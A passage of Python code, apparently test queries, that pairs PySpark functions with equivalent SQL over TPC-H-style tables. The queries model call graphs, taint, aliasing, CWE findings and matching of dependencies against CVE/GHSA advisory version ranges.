def hierarchy_join(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Members counted at all their supertypes."""
    nation, region = table(spark, sf_dir, "nation"), table(spark, sf_dir, "region")
    up = nation.join(region, F.col("n_regionkey") == F.col("r_regionkey")).select(F.col("n_name").alias("sub"), F.col("r_name").alias("super")).unionByName(region.select(F.col("r_name").alias("sub"), F.lit("WORLD").alias("super")))
    types = table(spark, sf_dir, "customer").join(nation.select(F.col("n_nationkey").alias("c_nationkey"), F.col("n_name").alias("sub")), "c_nationkey")
    return calls.members(types, calls.closure(up)).groupBy("super").agg(F.count("*").alias("n_customers"), F.count_distinct("c_nationkey").alias("n_nations"))


@query(r"""
WITH p AS (SELECT page_id, regexp_replace(regexp_replace(url, '^[a-z]+://', ''), '[?#].*$', '') AS name FROM pages),
m AS (SELECT DISTINCT string_split(name, '/')[1] AS module FROM p UNION SELECT DISTINCT array_to_string(string_split(name, '/')[1:2], '/') FROM p WHERE page_id % 2 = 0),
x AS (SELECT page_id, name, module FROM p JOIN m ON name = module OR starts_with(name, module || '/'))
SELECT page_id AS file, arg_max(module, length(module)) AS module FROM x GROUP BY page_id
""")
def module_prefix_join(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Imports to the packages with the longest module that is their prefix."""
    name = F.regexp_replace(F.regexp_replace("url", "^[a-z]+://", ""), "[?#].*$", "")
    imports = table(spark, sf_dir, "pages").select(F.col("page_id").alias("file"), name.alias("name"))
    part = lambda n: F.array_join(F.slice(F.split("name", "/"), 1, n), "/")
    modules = imports.select(part(1).alias("module")).unionByName(imports.where("file % 2 = 0").select(part(2).alias("module"))).distinct().withColumn("package", F.col("module"))
    return calls.module_imports(imports, modules, "/").select("file", "module")


@query("""
WITH m AS (SELECT event_id, user_id % 40 AS path, event_id % 10 AS line, CASE WHEN value > 250 THEN ['CWE-1', 'CWE-2'] ELSE ['CWE-3'] END AS cwe FROM events WHERE event_type <> 'error'),
t AS (SELECT user_id % 40 AS path, event_id % 10 AS line, unnest(['CWE-2', 'CWE-4']) AS c FROM events WHERE event_type = 'error' AND value > 300)
SELECT event_id AS id FROM m WHERE NOT EXISTS (SELECT 1 FROM t WHERE t.path = m.path AND t.line = m.line AND list_contains(m.cwe, t.c))
""")
def misuse_not_reported(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Misuse findings that no taint finding at their place covers."""
    events = table(spark, sf_dir, "events").withColumns({"path": F.col("user_id") % 40, "line": F.col("event_id") % 10})
    strings = lambda *xs: F.array(*map(F.lit, xs))
    misuse = events.where("event_type <> 'error'").select(F.col("event_id").alias("id"), "path", "line", F.when(F.col("value") > 250, strings("CWE-1", "CWE-2")).otherwise(strings("CWE-3")).alias("cwe"))
    return calls.unreported(misuse, events.where("event_type = 'error' and value > 300").select("path", "line", strings("CWE-2", "CWE-4").alias("cwe"))).select("id")


@query("""
SELECT o_orderkey AS func, count(*) AS n FROM orders WHERE NOT EXISTS (SELECT 1 FROM lineitem WHERE l_orderkey = o_orderkey AND l_linenumber = 5) GROUP BY ALL
""")
def unused_returns(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Calls whose results are never read."""
    made = table(spark, sf_dir, "orders").select(F.col("o_orderkey").alias("func"), F.lit(5).alias("value"))
    uses = table(spark, sf_dir, "lineitem").select(F.col("l_orderkey").alias("func"), F.col("l_linenumber").alias("value"))
    return calls.unused_returns(made, uses).groupBy("func").agg(F.count("*").alias("n"))


@query("""
WITH o AS (SELECT max(p_partkey) + 1 AS k FROM part), f AS (SELECT 0 AS program, p_partkey AS id, p_brand AS name FROM part UNION ALL SELECT 1, s_suppkey + k, s_name FROM supplier, o),
e AS (SELECT 0 AS program, l_partkey AS src, l_partkey AS dst FROM lineitem UNION ALL SELECT 1, l_suppkey + k, l_suppkey + k FROM lineitem, o)
SELECT f.program, id, name, count(src) AS links FROM f LEFT JOIN e ON e.program = f.program AND src = id GROUP BY ALL
""")
def program_union(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Two programs side by side under new ids."""
    lines = table(spark, sf_dir, "lineitem")
    functions = [table(spark, sf_dir, "part").select(F.col("p_partkey").alias("id"), F.col("p_brand").alias("name")), table(spark, sf_dir, "supplier").select(F.col("s_suppkey").alias("id"), F.col("s_name").alias("name"))]
    edges = [lines.select(F.col(c).alias("src"), F.col(c).alias("dst")) for c in ("l_partkey", "l_suppkey")]
    f, e = calls.union_programs(functions, edges)
    return f.join(e.withColumnRenamed("src", "id"), ["program", "id"], "left").groupBy("program", "id", "name").agg(F.count("dst").alias("links"))


@query("""
SELECT problem, count(*) AS n FROM (
SELECT DISTINCT l_orderkey, 'duplicate_instruction' AS problem FROM (SELECT l_orderkey, l_linenumber, count(*) AS k FROM lineitem GROUP BY ALL) WHERE k > 1
UNION ALL SELECT DISTINCT l_orderkey, 'duplicate_value' AS problem FROM (SELECT l_orderkey, l_partkey % 20 AS d, count(*) AS k FROM lineitem GROUP BY ALL) WHERE k > 1
UNION ALL SELECT DISTINCT l_orderkey, 'undefined_value' FROM lineitem l WHERE NOT EXISTS (SELECT 1 FROM lineitem d WHERE d.l_orderkey = l.l_orderkey AND d.l_partkey % 20 = l.l_suppkey % 20)
UNION ALL SELECT o_orderkey, 'missing_block' FROM orders WHERE o_orderstatus = 'F' AND o_orderkey IN (SELECT l_orderkey FROM lineitem GROUP BY 1 HAVING max(l_linenumber) < 4)) GROUP BY problem
""")
def validation_problems(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Functions to leave out: values defined twice, values used without a definition, jumps to nowhere. Orders are functions,
    their lines instructions."""
    lines = table(spark, sf_dir, "lineitem")
    insts = lines.select(F.col("l_orderkey").alias("func_id"), F.lit(0).alias("block"), F.col("l_linenumber").alias("pos"), (F.col("l_partkey") % 20).alias("dst"), (F.col("l_suppkey") % 20).alias("src"))
    blocks = lines.select(F.col("l_orderkey").alias("func_id"), F.col("l_linenumber").alias("block"), F.lit(1000).alias("pos") + F.col("l_linenumber"), F.lit(None).cast("long").alias("dst"), F.lit(None).cast("long").alias("src")).toDF("func_id", "block", "pos", "dst", "src")
    jumps = table(spark, sf_dir, "orders").where("o_orderstatus = 'F'").join(lines.groupBy("l_orderkey").agg(F.max("l_linenumber").alias("m")), F.col("o_orderkey") == F.col("l_orderkey")).select(F.col("o_orderkey").alias("func_id"), F.lit(4).alias("dst"), "m")
    found = dataflow.validate(insts.unionByName(blocks), jumps.where("m < 4").select("func_id", "dst"))
    return found.groupBy("problem").agg(F.count("*").alias("n"))


# --- graphs, aliases, cells ---------------------------------------------------------------------------------------------
@query(f"""
WITH {EDGES_SQL.strip()}, n AS ({SINKS_SQL})
SELECT DISTINCT node, src AS other FROM n JOIN e ON dst = node
""")
def neighbour_access(spark: SparkSession, sf_dir: str) -> DataFrame:
    """The predecessors of the sinks."""
    return graph.neighbours(trade_edges(spark, sf_dir), trade_ends(spark, sf_dir)[1], backward=True)


@query(f"""
WITH RECURSIVE {EDGES_SQL.strip()},
b(node, target, steps) AS (SELECT node, node, 0 FROM ({SINKS_SQL}) UNION SELECT src, target, steps + 1 FROM b JOIN e ON dst = node WHERE steps < 2)
SELECT node, target, min(steps) AS steps FROM b WHERE node LIKE 'o%' GROUP BY ALL
""")
def demand_targets(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Which orders reach which sinks in two steps."""
    starts = table(spark, sf_dir, "orders").select(F.concat(F.lit("o"), F.col("o_orderkey").cast("string")).alias("node"))
    return graph.reaches(trade_edges(spark, sf_dir), starts, trade_ends(spark, sf_dir)[1], 2)


@query("""
WITH RECURSIVE e AS (SELECT DISTINCT l_orderkey % 1000 AS ctx, l_partkey % 50 AS src, l_suppkey % 50 AS dst FROM lineitem),
r(ctx, node, depth) AS (SELECT DISTINCT ctx, src, 0 FROM e WHERE src < 5 UNION SELECT e.ctx, e.dst, depth + 1 FROM r JOIN e ON e.ctx = r.ctx AND e.src = r.node WHERE depth < 3)
SELECT ctx, node, min(depth) AS depth FROM r GROUP BY ALL
""")
def contextual_reach(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Reachability that keeps to one context."""
    edges = table(spark, sf_dir, "lineitem").select((F.col("l_orderkey") % 1000).alias("ctx"), (F.col("l_partkey") % 50).alias("src"), (F.col("l_suppkey") % 50).alias("dst"))
    return graph.in_context(edges, edges.where("src < 5").select("ctx", F.col("src").alias("node")), 3)


@query("""
WITH RECURSIVE l AS (SELECT DISTINCT l_orderkey AS f, l_linenumber AS n, l_returnflag AS k FROM lineitem), e AS (SELECT DISTINCT a.f, a.n AS x, b.n AS y FROM l a JOIN l b ON a.f = b.f AND a.k = b.k AND b.n = a.n + 1),
r(f, node) AS (SELECT f, n FROM l WHERE n = 1 UNION SELECT r.f, y FROM r JOIN e ON e.f = r.f AND x = node)
SELECT f AS func, 1 AS param, node AS returned FROM r WHERE node >= 3
""")
def function_summaries(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Which parameters of a function flow to which results: an order's lines flow to the next line with the same flag."""
    lines = table(spark, sf_dir, "lineitem").select(F.col("l_orderkey").alias("func"), F.col("l_linenumber").alias("node"), "l_returnflag")
    edges = lines.withColumn("dst", F.col("node") + 1).join(lines.withColumnRenamed("node", "dst"), ["func", "dst", "l_returnflag"]).select("func", F.col("node").alias("src"), "dst")
    return graph.function_summaries(edges, lines.where("node = 1").select("func", "node"), lines.where("node >= 3").select("func", "node"))


@query("""
WITH RECURSIVE l AS (SELECT DISTINCT l_orderkey AS f, l_linenumber AS n, l_returnflag AS k FROM lineitem), c AS (SELECT a.f, a.n AS x, b.n AS y FROM l a JOIN l b ON a.f = b.f AND a.k = b.k AND b.n = a.n + 1), e AS (SELECT f, x, y FROM c UNION SELECT f, y, x FROM c),
r(f, node, root) AS (SELECT f, x, x FROM e UNION SELECT r.f, y, root FROM r JOIN e ON e.f = r.f AND x = node)
SELECT f AS func, node AS value, min(root) AS root FROM r GROUP BY f, node
""")
def value_alias_roots(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Values that copies make one, function by function."""
    lines = table(spark, sf_dir, "lineitem").select(F.col("l_orderkey").alias("func"), F.col("l_linenumber").alias("src"), "l_returnflag")
    copies = lines.withColumn("dst", F.col("src") + 1).join(lines.withColumnRenamed("src", "dst"), ["func", "dst", "l_returnflag"]).select("func", "dst", "src")
    return heap.alias_roots(copies)


@query("""
WITH s AS (SELECT DISTINCT l_orderkey AS func, l_suppkey % 2 AS root, CASE WHEN l_linenumber = 1 THEN '*' ELSE l_linestatus END AS field, l_partkey AS src FROM lineitem WHERE l_returnflag = 'R'),
d AS (SELECT DISTINCT l_orderkey AS func, l_suppkey % 2 AS root, l_linestatus AS field, l_partkey AS dst FROM lineitem WHERE l_returnflag <> 'R')
SELECT DISTINCT func, src, dst FROM s JOIN d USING (func, root) WHERE s.field = d.field OR s.field = '*'
""")
def field_cells(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Values through fields of the same object, known and unknown ones."""
    lines = table(spark, sf_dir, "lineitem")
    field = F.when(F.col("l_linenumber") == 1, "*").otherwise(F.col("l_linestatus"))
    at = lambda f: [F.col("l_orderkey").alias("func"), F.col("l_suppkey").alias("base"), f.alias("field"), F.col("l_partkey").alias("value")]
    roots = lines.select(F.col("l_orderkey").alias("func"), F.col("l_suppkey").alias("value"), (F.col("l_suppkey") % 2).alias("root")).distinct()
    return heap.field_edges(lines.where("l_returnflag = 'R'").select(*at(field)), lines.where("l_returnflag <> 'R'").select(*at(F.col("l_linestatus"))), roots)


@query("""
WITH c AS (SELECT DISTINCT l_suppkey AS cell, l_partkey AS object FROM lineitem)
SELECT x.cell AS a, y.cell AS b, count(*) AS shared FROM c x JOIN c y USING (object) WHERE x.cell < y.cell GROUP BY ALL
""")
def object_overlap_join(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Suppliers that share parts, as cells that share abstract objects."""
    return heap.overlaps(table(spark, sf_dir, "lineitem").select(F.col("l_suppkey").alias("cell"), F.col("l_partkey").alias("object")))


@query("""
WITH s AS (SELECT l_orderkey AS cell, min(l_returnflag || l_linestatus) AS lo, max(l_returnflag || l_linestatus) AS hi FROM lineitem GROUP BY 1), k AS (SELECT cell, lo AS object FROM s WHERE lo = hi), f AS (SELECT object, min(cell) AS a FROM k GROUP BY 1)
SELECT a, cell AS b FROM k JOIN f USING (object) WHERE cell <> a
""")
def must_alias(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Cells that surely hold the same single object."""
    return heap.must_alias(table(spark, sf_dir, "lineitem").select(F.col("l_orderkey").alias("cell"), F.concat("l_returnflag", "l_linestatus").alias("object")))


@query("""
SELECT l_suppkey AS cell, array_to_string(list_sort(list(DISTINCT l_linenumber)), ',') AS stored FROM lineitem GROUP BY l_suppkey
""")
def live_state(spark: SparkSession, sf_dir: str) -> DataFrame:
    """The values that each cell may hold."""
    found = heap.live_state(table(spark, sf_dir, "lineitem").select(F.col("l_suppkey").alias("cell"), F.col("l_linenumber").alias("value")))
    return found.select("cell", F.array_join(F.transform("values", lambda v: v.cast("string")), ",").alias("stored"))


@query("""
SELECT p_name, dense_rank() OVER (ORDER BY p_name) AS object FROM (SELECT DISTINCT p_name FROM part)
""")
def object_catalog(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Numbers for abstract objects in the order of their seeds."""
    return heap.catalog(table(spark, sf_dir, "part"), "p_name")


@query("""
WITH a AS (SELECT DISTINCT 'r' || o_custkey % 30 || CASE WHEN o_orderkey % 3 = 0 THEN '.f' ELSE '' END || CASE WHEN o_orderkey % 5 = 0 THEN '[0]' ELSE '' END AS a FROM orders),
b AS (SELECT DISTINCT 'r' || s_suppkey % 30 || CASE WHEN s_suppkey % 2 = 0 THEN '.f' ELSE '.g' END AS b FROM supplier)
SELECT a, b FROM a JOIN b ON a = b OR starts_with(a, b || '.') OR starts_with(a, b || '[') OR starts_with(b, a || '.') OR starts_with(b, a || '[')
""")
def related_regions(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Memory regions of which one holds the other."""
    s = lambda c: c.cast("string")
    left = table(spark, sf_dir, "orders").select(F.concat(F.lit("r"), s(F.col("o_custkey") % 30), F.when(F.col("o_orderkey") % 3 == 0, ".f").otherwise(""), F.when(F.col("o_orderkey") % 5 == 0, "[0]").otherwise("")).alias("a"))
    right = table(spark, sf_dir, "supplier").select(F.concat(F.lit("r"), s(F.col("s_suppkey") % 30), F.when(F.col("s_suppkey") % 2 == 0, ".f").otherwise(".g")).alias("b"))
    return heap.regions_related(left, right)


@query("""
WITH e AS (SELECT l_orderkey AS src, l_partkey AS dst, CASE l_linenumber % 4 WHEN 0 THEN 'copy' WHEN 1 THEN 'store' WHEN 2 THEN 'summary' ELSE 'control' END AS kind FROM lineitem)
SELECT kind, count(*) AS n_taint, CAST(sum(CASE WHEN kind = 'copy' THEN 1 ELSE 0 END) AS BIGINT) AS n_light FROM e WHERE kind <> 'control' GROUP BY kind
""")
def sparse_views(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Which edges the taint and the light view follow."""
    k = F.col("l_linenumber") % 4
    edges = table(spark, sf_dir, "lineitem").select(F.col("l_orderkey").alias("src"), F.col("l_partkey").alias("dst"), F.when(k == 0, "copy").when(k == 1, "store").when(k == 2, "summary").otherwise("control").alias("kind"))
    light = graph.data_edges(edges, "light").groupBy("kind").agg(F.count("*").alias("n_light"))
    return graph.data_edges(edges, "taint").groupBy("kind").agg(F.count("*").alias("n_taint")).join(light, "kind", "left").select("kind", "n_taint", F.coalesce("n_light", F.lit(0)).alias("n_light"))


@query("""
WITH e AS (SELECT DISTINCT 'c' || o_custkey AS c, 'o' || o_orderkey AS o, 'status ' || o_orderstatus AS label FROM orders), s AS (SELECT c, label FROM e UNION SELECT c, 'nation ' || c_nationkey FROM e JOIN customer ON c = 'c' || c_custkey),
l AS (SELECT c, string_agg(label, ',' ORDER BY label) AS labels FROM s GROUP BY c)
SELECT c AS node, labels FROM l UNION ALL SELECT o, labels FROM e JOIN l USING (c)
""")
def label_groups(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Every node of a component has the labels of all its seeds: a customer and its orders have one another's."""
    named = lambda p, c: F.concat(F.lit(p), F.col(c).cast("string"))
    orders = table(spark, sf_dir, "orders").select(named("c", "o_custkey").alias("src"), named("o", "o_orderkey").alias("dst"), F.concat(F.lit("status "), "o_orderstatus").alias("label"))
    customers = table(spark, sf_dir, "customer").select(named("c", "c_custkey").alias("node"), named("nation ", "c_nationkey").alias("label"))
    seeds = orders.select(F.col("dst").alias("node"), "label").unionByName(customers.join(orders.select(F.col("src").alias("node")).distinct(), "node", "left_semi"))
    return graph.union_by_labels(seeds, orders.select("src", "dst")).select("node", F.array_join("labels", ",").alias("labels"))


@query("""
WITH RECURSIVE t AS (SELECT 'p' || p_partkey AS a, 't' || p_type AS b FROM part UNION SELECT 't' || p_type, 'b' || p_brand FROM part UNION SELECT 'b' || p_brand, 's' || p_size % 10 FROM part UNION SELECT 's' || p_size % 10, 's' || (p_size + 1) % 10 FROM part), k AS (SELECT a AS k FROM t UNION SELECT b FROM t), r(kind, becomes) AS (SELECT k, k FROM k UNION SELECT kind, b FROM r JOIN t ON a = becomes) SELECT kind, becomes FROM r
""")
def kind_closure(spark: SparkSession, sf_dir: str) -> DataFrame:
    """What kinds of taint can become through transforms: parts become types, brands and sizes."""
    name = lambda p, c: F.concat(F.lit(p), c.cast("string"))
    kinds = [name("p", F.col("p_partkey")), name("t", F.col("p_type")), name("b", F.col("p_brand")), name("s", F.col("p_size") % 10), name("s", (F.col("p_size") + 1) % 10)]
    rows = table(spark, sf_dir, "part").select(F.explode(F.array(*(F.struct(a.alias("a"), b.alias("b")) for a, b in zip(kinds, kinds[1:])))).alias("t"))
    return taint.kind_closure(rows.select("t.*").distinct())


@query("""
WITH o AS (SELECT user_id, event_id, list_sort(list_distinct(['W' || event_id % 7, 'W' || event_id % 5, 'X' || event_id % 11][1:event_id % 4])) AS cwe FROM events),
p AS (SELECT user_id, list([{'pos': event_id, 'cwe': cwe, 'n': 1}] ORDER BY event_id) AS x FROM o GROUP BY user_id),
f AS (SELECT user_id, list_reduce(x, lambda acc, y: CASE WHEN list_position(list_transform(acc, lambda e: len(e.cwe) = 0 OR len(y[1].cwe) = 0 OR list_has_any(e.cwe, y[1].cwe)), TRUE) IS NULL THEN list_concat(acc, y)
ELSE list_transform(acc, lambda e, i: CASE WHEN i = list_position(list_transform(acc, lambda e: len(e.cwe) = 0 OR len(y[1].cwe) = 0 OR list_has_any(e.cwe, y[1].cwe)), TRUE) THEN {'pos': e.pos, 'cwe': list_sort(list_distinct(list_concat(e.cwe, y[1].cwe))), 'n': e.n + 1} ELSE e END) END, []) AS acc FROM p)
SELECT user_id AS location, array_to_string(e.cwe, ',') AS cwe, e.pos AS ordinal, CAST(e.n AS INTEGER) AS merged FROM (SELECT user_id, unnest(acc) AS e FROM f)
""")
def findings_folded(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Findings at one place with a common weakness, or without any, are one; their weaknesses add up."""
    k = F.col("event_id")
    name = lambda p, m: F.concat(F.lit(p), (k % m).cast("string"))
    cwe = F.array_sort(F.array_distinct(F.slice(F.array(name("W", 7), name("W", 5), name("X", 11)), 1, (k % 4).cast("int"))))
    found = table(spark, sf_dir, "events").select(F.col("user_id").cast("string").alias("location"), cwe.alias("cwe"), k.alias("ordinal"))
    return taint.fold_by_location(found).select(F.col("location").cast("long").alias("location"), F.array_join("cwe", ",").alias("cwe"), "ordinal", "merged")


# --- snapshots, sets, lists ----------------------------------------------------------------------------------------------
@query("""
SELECT p_brand, count(*) FILTER (EXISTS (SELECT 1 FROM lineitem WHERE l_partkey = p_partkey)) AS covered, count(*) FILTER (NOT EXISTS (SELECT 1 FROM lineitem WHERE l_partkey = p_partkey)) AS uncovered FROM part GROUP BY p_brand
""")
def semi_anti_cover(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Parts with and without lines, by brand."""
    used = table(spark, sf_dir, "lineitem").select(F.col("l_partkey").alias("p_partkey"))
    parts = rows.covered(table(spark, sf_dir, "part").select("p_brand", "p_partkey"), used, "p_partkey")
    return parts.groupBy("p_brand").agg(F.count_if("covered").alias("covered"), F.count_if(~F.col("covered")).alias("uncovered"))


@query("""
WITH f AS (SELECT l_orderkey, l_partkey FROM lineitem WHERE l_returnflag = 'R'), g AS (SELECT l_orderkey, l_partkey FROM lineitem WHERE l_discount > 0.05)
SELECT (SELECT count(*) FROM (SELECT * FROM f INTERSECT SELECT * FROM g)) AS both_sets, (SELECT count(*) FROM (SELECT * FROM f EXCEPT SELECT * FROM g)) AS only_first, (SELECT count(*) FROM (SELECT * FROM f UNION SELECT * FROM g)) AS either
""")
def set_operations(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Union, intersection and difference of two fact sets."""
    lines = table(spark, sf_dir, "lineitem")
    sides = rows.compare_findings(lines.where("l_returnflag = 'R'"), lines.where("l_discount > 0.05"), "l_orderkey", "l_partkey")
    return sides.agg(F.count_if(F.col("side") == "both").alias("both_sets"), F.count_if(F.col("side") == "only_left").alias("only_first"), F.count("*").alias("either"))


@query("""
SELECT l_partkey, arg_min(id, CASE WHEN id LIKE 'GHSA-%' THEN '0' WHEN id LIKE 'CVE-%' THEN '1' ELSE '2' END || id) AS first_id, count(*) AS n FROM (SELECT l_partkey, CASE l_returnflag WHEN 'R' THEN 'GHSA-' WHEN 'A' THEN 'CVE-' ELSE 'OSV-' END || l_suppkey AS id FROM lineitem) GROUP BY l_partkey
""")
def primary_alias(spark: SparkSession, sf_dir: str) -> DataFrame:
    """The id by which a cluster of aliases is called."""
    kind = F.when(F.col("l_returnflag") == "R", "GHSA-").when(F.col("l_returnflag") == "A", "CVE-").otherwise("OSV-")
    ids = table(spark, sf_dir, "lineitem").select("l_partkey", F.concat(kind, F.col("l_suppkey").cast("string")).alias("id"))
    return ids.groupBy("l_partkey").agg(F.min(advisories.by_authority(F.col("id"))).alias("m"), F.count("*").alias("n")).select("l_partkey", F.col("m.id").alias("first_id"), "n")


@query("""
WITH p AS (SELECT DISTINCT l_suppkey, CAST(l_partkey AS VARCHAR) AS k FROM lineitem), s AS (SELECT l_suppkey, list_sort(list(k)) AS l FROM p GROUP BY l_suppkey)
SELECT l_suppkey, len(l) AS n_parts, array_to_string(l[1:4], ',') AS first_parts FROM s
""")
def collapse_and_truncate(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Binary packages by their source, sorted, of which four are shown."""
    packages = table(spark, sf_dir, "lineitem").select(F.array(F.lit("debian:12")).alias("data_keys"), F.col("l_partkey").cast("string").alias("binary"), F.col("l_suppkey").cast("string").alias("source"), F.lit("1").alias("version"))
    return os_advisories.collapse(packages).select(F.col("source").cast("long").alias("l_suppkey"), F.size("binaries").cast("long").alias("n_parts"), F.array_join(rows.shown(F.col("binaries"), 4), ",").alias("first_parts"))


@query(r"""
SELECT page_id, regexp_extract(url, '^(https?)://([^/?#]+)([^?#]*)(?:[?]([^#]*))?', 2) AS host, regexp_extract(url, '^(https?)://([^/?#]+)([^?#]*)', 3) AS path, nullif(regexp_extract(url, '[?&]page=([^&#]*)', 1), '') AS page FROM pages
""")
def url_split(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Host, path and one query value of addresses."""
    url = F.col("url")
    return table(spark, sf_dir, "pages").select("page_id", text.host(url).alias("host"), text.path(url).alias("path"), text.query_value(url, "page").alias("page"))


@query("""
WITH k AS (SELECT event_id, TRY_CAST(json_extract_string(props, '$.k') AS BIGINT) AS k, props FROM events)
SELECT event_id, k AS decimal, k AS hexadecimal, k AS octal, CAST(NULL AS BIGINT) AS none, sha256(props) AS digest FROM k
""")
def literals_and_digests(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Number literals of three bases, words that are none, and content digests."""
    k = F.get_json_object("props", "$.k")
    long = k.cast("long")
    return table(spark, sf_dir, "events").select("event_id", text.integer(k).alias("decimal"), text.integer(F.concat(F.lit("0x"), F.hex(long), F.lit("L"))).alias("hexadecimal"), text.integer(F.concat(F.lit("0o"), F.conv(k, 10, 8))).alias("octal"), text.integer(F.col("event_type")).alias("none"), text.digest(F.col("props")).alias("digest"))


# --- dependencies --------------------------------------------------------------------------------------------------------
@query("""
WITH n AS (SELECT p_partkey, CASE p_size % 4 WHEN 0 THEN ' Pip' WHEN 1 THEN 'crates.io' WHEN 2 THEN 'NuGet' ELSE 'maven' END AS e, replace(p_brand, '#', '__.') AS b FROM part)
SELECT p_partkey, CASE e WHEN ' Pip' THEN 'pypi' WHEN 'crates.io' THEN 'cargo' WHEN 'NuGet' THEN 'nuget' ELSE e END AS ecosystem, CASE e WHEN ' Pip' THEN regexp_replace(lower(b), '[-_.]+', '-', 'g') WHEN 'NuGet' THEN lower(b) ELSE b END AS package FROM n
""")
def registry_names(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Ecosystems and packages in their registry's spelling."""
    k = F.col("p_size") % 4
    eco = advisories.normal_ecosystem(F.when(k == 0, " Pip").when(k == 1, "crates.io").when(k == 2, "NuGet").otherwise("maven"))
    return table(spark, sf_dir, "part").select("p_partkey", eco.alias("ecosystem"), advisories.normal_package(eco, F.replace("p_brand", F.lit("#"), F.lit("__."))).alias("package"))


def dependencies(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Parts as installed packages: brand, and a version of size and key."""
    version = F.concat_ws(".", F.col("p_size").cast("string"), (F.col("p_partkey") % 10).cast("string"), F.lit("0"))
    return table(spark, sf_dir, "part").select(F.lit("npm").alias("ecosystem"), F.col("p_brand").alias("name"), F.when(F.col("p_partkey") % 97 == 0, "***").otherwise(version).alias("version"), F.col("p_partkey").cast("string").alias("manifest_path"), (F.col("p_size") % 2 == 0).alias("direct"))


def advisory_rows(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Suppliers as advisories: `>=a, <b` for brand k, with an alias that the next one shares."""
    s = F.col("s_suppkey")
    text_ = lambda c: c.cast("string")
    rank = F.array(*map(F.lit, ("low", "medium", "high", "critical")))
    return table(spark, sf_dir, "supplier").select(
        F.concat(F.when(s % 2 == 0, "CVE-").otherwise("GHSA-"), text_(s)).alias("id"), F.array(F.concat(F.lit("X-"), text_(F.floor(s / 2)))).alias("aliases"), F.lit("NPM ").alias("ecosystem"),
        F.concat(F.lit("brand#"), text_(s % 5 + 1), text_(F.floor(s / 5).cast("long") % 5 + 1)).alias("package"), F.get(rank, (s % 4).cast("int")).alias("severity"), F.array(F.concat(F.lit("CWE-"), text_(s % 3))).alias("cwe"),
        F.concat(F.lit(">="), text_(s % 20), F.lit(".5, <"), text_(s % 20 + 15), F.lit(".0.0")).alias("vulnerable_range"), F.lit(None).cast("array<string>").alias("affected_symbols"), (s / 10000).alias("epss"), (s % 7 == 0).alias("kev"),
    )


_DEPENDENCIES_SQL = """
d AS (SELECT p_partkey AS k, lower(p_brand) AS brand, p_size AS major, p_partkey % 10 AS minor, p_partkey % 97 = 0 AS odd FROM part),
a AS (SELECT s_suppkey AS s, CASE WHEN s_suppkey % 2 = 0 THEN 'CVE-' ELSE 'GHSA-' END || s_suppkey AS id, s_suppkey // 2 AS pair, 'brand#' || (s_suppkey % 5 + 1) || (s_suppkey // 5 % 5 + 1) AS brand, s_suppkey % 4 AS rank, s_suppkey % 20 AS lo, s_suppkey % 20 + 15 AS hi, s_suppkey % 7 = 0 AS kev, s_suppkey / 10000 AS epss FROM supplier),
h AS (SELECT k, s, id, pair, rank, hi, kev, epss FROM d JOIN a USING (brand) WHERE NOT odd AND (major > lo OR (major = lo AND minor >= 5)) AND major < hi)
"""


@query(f"""
WITH {_DEPENDENCIES_SQL.strip()} SELECT k, id, hi || '.0.0' AS fix FROM h
""")
def advisory_candidates(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Dependencies whose version lies in an advisory's range, with the version to move to."""
    found = advisories.candidates(dependencies(spark, sf_dir), advisory_rows(spark, sf_dir), hits=True)
    return found.select(F.col("manifest_path").cast("long").alias("k"), "id", F.col("__j.fix").alias("fix"))


@query(f"""
WITH {_DEPENDENCIES_SQL.strip()},
g AS (SELECT k, pair, max(rank) AS rank, arg_min(id, CASE WHEN id LIKE 'GHSA-%' THEN '0' ELSE '1' END || id) AS rule_id, bool_or(kev) AS kev, max(epss) AS epss, list(DISTINCT id) AS ids FROM h GROUP BY k, pair)
SELECT k, rule_id, CASE rank WHEN 0 THEN 'low' WHEN 1 THEN 'medium' WHEN 2 THEN 'high' ELSE 'critical' END AS severity, kev, round(epss, 6) AS epss, array_to_string(list_sort(list_append(ids, 'X-' || pair)), ',') AS ids FROM g
""")
def dependency_findings(spark: SparkSession, sf_dir: str) -> DataFrame:
    """One finding for each dependency and cluster of aliases."""
    found = advisories.findings(dependencies(spark, sf_dir), advisory_rows(spark, sf_dir))
    return found.select(F.col("manifest_path").cast("long").alias("k"), "rule_id", "severity", "kev", F.round("epss", 6).alias("epss"), F.array_join("ids", ",").alias("ids"))


@query(f"""
WITH {_DEPENDENCIES_SQL.strip()}
SELECT 'unresolved_version' AS kind, 'npm' AS ecosystem, brand AS package, count(DISTINCT id) AS n FROM d JOIN a USING (brand) WHERE odd GROUP BY brand
UNION ALL SELECT 'no_advisory_data', 'cobol', NULL, count(*) FROM customer
""")
def dependency_warnings(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Versions that can't be read, and ecosystems without advisories."""
    others = table(spark, sf_dir, "customer").select(F.lit("COBOL").alias("ecosystem"), F.col("c_name").alias("name"), F.lit("1").alias("version"), F.lit("c").alias("manifest_path"), F.lit(True).alias("direct"))
    return advisories.warnings(dependencies(spark, sf_dir).unionByName(others), advisory_rows(spark, sf_dir))


@query("""
